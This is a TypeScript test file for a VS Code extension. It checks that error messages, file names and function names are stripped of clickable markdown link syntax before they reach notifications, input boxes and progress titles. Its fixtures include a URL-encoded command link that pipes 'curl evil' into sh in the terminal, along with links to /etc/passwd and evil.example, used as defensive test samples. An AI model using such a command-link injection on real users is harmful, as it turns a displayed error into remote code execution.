import * as assert from 'node:assert/strict';
import { errorLogLine, errorNotification, inputsBox, progressTitle, serverFailure } from '../../../extension/notices';
import type { EvaluationError } from '../../../protocol';

/**
 * Issue 12.6: `raise ValueError("[Go to source](command:...)")` reached showErrorMessage unchanged,
 * and VS Code renders `[label](command:...)` in notifications (in Restricted Mode too) as a link
 * that runs the command. One test per surface the extension writes user-derived text to.
 */

/** VS Code's own pattern for links in notifications, progress and input boxes (vs/base/common/linkedText.ts). */
const VSCODE_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi;
const COMMAND = '[Go to source](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)';
const LINKS = [COMMAND, '[docs](https://evil.example/x)', '[f](file:///etc/passwd)', '[spaced] (command:x)', '[a]( command:x)', '<command:workbench.action.reloadWindow>'];

function links(text: string): string[] {
  return [...text.matchAll(VSCODE_LINK)].map((m) => m[0]);
}

function errorWith(message: string, extra: Partial<EvaluationError> = {}): EvaluationError {
  return { uri: 'file:///w/evil.py', function: 'f', sourceHash: 'h', kind: 'error', message, ...extra };
}

describe('extension: user-derived text reaches no VS Code surface as a link', () => {
  it('the guard sees the links it is meant to strip (VS Code renders each of these)', () => {
    assert.equal(links(COMMAND).length, 1);
    assert.equal(links('[docs](https://evil.example/x)').length, 1);
  });

  for (const link of LINKS) {
    it(`notification and output channel: ${link.slice(0, 40)}`, () => {
      for (const error of [
        errorWith(`/w/evil.py:3:5: error: ValueError: ${link}`, { range: { line: 3, col: 5, endLine: 3, endCol: 9 } }),
        errorWith(`ValueError: ${link}`),
        errorWith('boom', { uri: `file:///w/${encodeURIComponent(link)}.py` }),
        errorWith('boom', { function: link }),
      ]) {
        const { text } = errorNotification(error);
        assert.deepEqual(links(text), [], text);
        assert.deepEqual(links(errorLogLine(error)), []);
        assert.ok(!/<command:/.test(text));
      }
    });

    it(`progress, input box and server failures: ${link.slice(0, 40)}`, () => {
      assert.deepEqual(links(progressTitle('results', link)), []);
      const box = inputsBox(link, `no example inputs: ${link}`, [link, 'x']);
      for (const text of [box.title, box.prompt, box.placeHolder, box.empty]) assert.deepEqual(links(text), [], text);
      assert.deepEqual(links(serverFailure(link, new Error(link))), []);
    });
  }

  it('keeps the words: only the link syntax is broken, shapes and brackets stay', () => {
    const { text } = errorNotification(errorWith('/w/evil.py:3:5: error: shapes f32[4,3] and f32[2] (in matmul) do not match; [Go](command:x)'));
    assert.equal(text, 'evil.py:3:5: error: shapes f32[4,3] and f32[2] (in matmul) do not match; [Go] (command:x)');
  });
});

describe('extension: an error names its place once (issue 11.9)', () => {
  it('a message that starts with the full path, spaces included, reads file:line:col once', () => {
    const error = errorWith('/home/me/my project/mlp_jax.py:4:7: error: TypeError: bad operand', { uri: 'file:///home/me/my%20project/mlp_jax.py', range: { line: 4, col: 7, endLine: 4, endCol: 9 } });
    assert.equal(errorNotification(error).text, 'mlp_jax.py:4:7: error: TypeError: bad operand');
    assert.deepEqual(errorNotification(error).actions, ['Go to source']);
  });

  it('a message with no place gets the range, or the file', () => {
    assert.equal(errorNotification(errorWith('took too long', { kind: 'budget', range: { line: 2, col: 1, endLine: 2, endCol: 4 } })).text, 'evil.py:2:1: error: took too long');
    assert.deepEqual(errorNotification(errorWith('took too long', { kind: 'budget' })).actions, ['Open budget settings']);
    assert.equal(errorNotification(errorWith('x')).text, 'evil.py: error: x');
  });

  it("the input box's placeholder names the function's parameters", () => {
    assert.equal(inputsBox('loss', 'no inputs.', ['params', 'features', 'targets']).placeHolder, 'params=…, features=…, targets=…');
    assert.equal(inputsBox('f', 'no inputs.', undefined).placeHolder, 'x=2.0, w=[1, 2, 3]');
  });
});
